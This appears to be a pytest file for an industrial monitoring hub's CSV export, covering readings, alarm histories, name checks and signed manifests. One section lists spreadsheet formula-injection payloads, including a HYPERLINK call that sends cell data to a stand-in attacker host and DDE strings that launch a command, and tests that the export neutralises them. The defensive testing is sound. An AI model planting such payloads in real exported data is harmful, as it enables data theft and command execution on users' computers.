"""What is exported: readings beside a running hub, alarms that do not contradict themselves, names that are checked."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from msgspec import Struct
from msgspec.structs import replace

from hub import export
from hub.audit_export import check
from hub.clock import ManualClock
from hub.config import HubFile, Site
from hub.contract import BadConfig
from hub.historian.base import Batch, to_us
from hub.historian.engine import EmbeddedHistorian
from hub.ledger import Ledger
from hub.model import AlarmChange, AlarmEvent, Command, Kind
from hub.seal import Seal
from hub.words import house_words
from tests.hub.kit import NOON, PLATE, STATION, at


class Order(Struct):
    what: str = "readings"
    device: str = "ps-1"
    point: list[str] = []
    start: str = ""
    end: str = ""
    output: Path | None = None
    sign: bool = False


def site(folder: Path) -> Site:
    return Site(folder, HubFile(), {}, devices=(STATION,), plates={STATION.id: PLATE})


def table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


async def test_readings_are_exported_while_the_hub_owns_the_history(tmp_path: Path):
    clock = ManualClock(NOON)
    owner = await EmbeddedHistorian.open(tmp_path / "data" / "history", clock)
    number = owner.catalogue.number("ps-1", "sump.level", Kind.NUMBER, "m")
    for sealed, value in ((True, 1.0), (False, 2.0)):
        await owner.write(Batch.of([number], [to_us(at(-60 + value))], [value], [2]))
        if sealed:
            await owner.seal()
    out = tmp_path / "level.csv"
    assert await export.export(site(tmp_path), clock, Order(output=out)) == 2
    assert [row[2:5] for row in table(out.read_text("utf-8"))[1:]] == [
        ["sump.level", "1.00", "m"],
        ["sump.level", "2.00", "m"],
    ]
    await owner.close()


WRONG = [
    (Order(device="ps-2"), ['--device › there is no "ps-2". Did you mean "ps-1"?']),
    (Order("alarms", device="ps-2"), ['--device › there is no "ps-2". Did you mean "ps-1"?']),
    (Order("commands", device="ps-2"), ['--device › there is no "ps-2". Did you mean "ps-1"?']),
    (Order(point=["sump.levle"]), ['--point › "ps-1" has no "sump.levle". Did you mean "sump.level"?']),
    (
        Order(point=["x", "y"]),
        [f'--point › "ps-1" has no "{it}". Known: link, pump1.running, pump1.speed, pump1.state, sump.level'
         for it in "xy"],
    ),
]  # fmt: skip


@pytest.mark.parametrize(("order", "said"), WRONG)
async def test_a_wrong_name_is_said_before_a_file_is_written_over(tmp_path: Path, order: Order, said: list[str]):
    order.output = tmp_path / "kept.csv"
    order.output.write_text("what was there")
    with pytest.raises(BadConfig) as caught:
        await export.export(site(tmp_path), ManualClock(NOON), order)
    assert list(caught.value.mistakes) == said
    assert order.output.read_text() == "what was there"


async def test_a_point_that_has_no_history_yet_has_no_rows(tmp_path: Path):
    out = tmp_path / "level.csv"
    order = Order(point=["sump.level"], output=out)
    assert await export.export(site(tmp_path), ManualClock(NOON), order) == 0


async def test_a_reader_who_has_seen_enough_is_no_mistake(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    class Closed(io.StringIO):
        def write(self, text: str) -> int:
            raise BrokenPipeError

    monkeypatch.setattr("sys.stdout", Closed())
    with pytest.raises(BrokenPipeError):
        await export.export(site(tmp_path), ManualClock(NOON), Order("devices"))


def change(alarm: str, event: AlarmEvent, second: float, say: str = "") -> AlarmChange:
    return AlarmChange(alarm, event, "ps-1", "high", at(second), at(second), say={"zh-CN": say} if say else {})


async def alarm_rows(tmp_path: Path, *changes: AlarmChange, since: timedelta) -> list[tuple[str, str, str]]:
    ledger = await Ledger.open(f"sqlite:///{tmp_path}/ledger.sqlite", ManualClock(NOON))
    await ledger.append(*changes)
    period = export.Period((NOON - since).isoformat(), (NOON + timedelta(hours=1)).isoformat(), "Asia/Shanghai", NOON)
    out = io.StringIO()
    await export.write(export.alarms(ledger, "", period, "zh-CN"), out)
    await ledger.close()
    return [(row[8], row[3], row[6]) for row in table(out.getvalue())[1:]]


async def test_an_alarm_that_returns_is_told_in_the_words_of_its_raise(tmp_path: Path):
    """returned, "level 4.362 m is above 6.700 m" would contradict itself."""
    high = "前池水位 7.100 m，超过高高水位 6.700 m"
    rows = await alarm_rows(
        tmp_path,
        change("a", AlarmEvent.RAISED, -7200, high),
        change("b", AlarmEvent.RAISED, 0, "b rose"),
        change("a", AlarmEvent.ACKNOWLEDGED, 1),
        change("a", AlarmEvent.RETURNED, 2, "前池水位 4.362 m，超过高高水位 6.700 m"),
        change("b", AlarmEvent.RETURNED, 3, "b fell"),
        change("b", AlarmEvent.RAISED, 4, "b rose again"),
        change("c", AlarmEvent.RETURNED, 5, "its raise is in no ledger"),
        since=timedelta(hours=1),
    )
    assert rows == [
        ("c", "returned", "its raise is in no ledger"),
        ("b", "raised", "b rose again"),
        ("b", "returned", "b rose"),
        ("a", "returned", high),
        ("a", "acknowledged", high),
        ("b", "raised", "b rose"),
    ]


# ---- what a spreadsheet would run ---------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/"&A1)',
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "－1+A1",
    "-infinity",
    "+nan",
    "=",
]


@pytest.mark.parametrize("text", HOSTILE)
async def test_a_name_that_a_spreadsheet_would_run_is_made_text(tmp_path: Path, text: str):
    device = replace(STATION, name=text, settings={})
    out = tmp_path / "devices.csv"
    hostile = Site(tmp_path, HubFile(), {}, devices=(device,), plates={STATION.id: PLATE})
    await export.export(hostile, ManualClock(NOON), Order("devices", device="", output=out))
    with out.open(encoding="utf-8-sig", newline="") as it:
        (_, row) = list(csv.reader(it))
    assert row[1] == "'" + text


async def test_a_note_and_a_reason_that_a_spreadsheet_would_run_are_made_text(tmp_path: Path):
    ledger = await Ledger.open(f"sqlite:///{tmp_path}/ledger.sqlite", ManualClock(NOON))
    seen = replace(change("a", AlarmEvent.ACKNOWLEDGED, 1), note="=1+1", by="@mallory", rule="+rule")
    asked = Command("c", "ps-1", "-go", {}, "=mallory", "\t=because", NOON, NOON)
    await ledger.append(seen, asked)
    period = export.Period("", (NOON + timedelta(hours=1)).isoformat(), "Asia/Shanghai", NOON)
    for rows, hostile in (
        (export.alarms(ledger, "", period, "en"), {"'=1+1", "'@mallory", "'+rule"}),
        (export.commands(ledger, "", period, house_words(), "en"), {"'-go", "'=mallory", "'\t=because"}),
    ):
        out = io.StringIO(newline="")
        assert await export.write(rows, out) == 1
        (_, row) = table(out.getvalue())
        assert hostile <= set(row)
        assert not [cell for cell in row if cell[:1] in tuple("=+-@\t")]
    await ledger.close()


@pytest.mark.parametrize("number", ["-1.50", "+3", "-2e-05", "0"])
async def test_numbers_stay_numbers(number: str):
    async def rows() -> export.Rows:
        yield ("value",)
        yield (number,)

    out = io.StringIO()
    await export.write(rows(), out)
    assert table(out.getvalue())[1] == [number]


# ---- under the site's seal ----------------------------------------------------------------------------------------


async def test_a_csv_can_be_exported_under_the_sites_seal(tmp_path: Path):
    (tmp_path / "data").mkdir()
    out = tmp_path / "devices.csv"
    await export.export(site(tmp_path), ManualClock(NOON), Order("devices", device="", output=out, sign=True))
    public = Seal(tmp_path / "data").public
    manifest, key, wrong = check(out, public)
    assert (manifest["what"], manifest["of"], manifest["rows"], key, wrong) == ("csv", "devices", 1, public, [])
    out.write_bytes(out.read_bytes().replace(b"ps-1", b"ps-2"))
    with pytest.raises(BadConfig, match="was changed after it was sealed: it is not the file that the manifest names"):
        check(out, public)


async def test_a_seal_needs_a_file_to_lie_beside(tmp_path: Path):
    with pytest.raises(BadConfig, match=r"--sign › needs a file beside which the seal can lie\. Write -o FILE\.csv"):
        await export.export(site(tmp_path), ManualClock(NOON), Order("devices", sign=True))
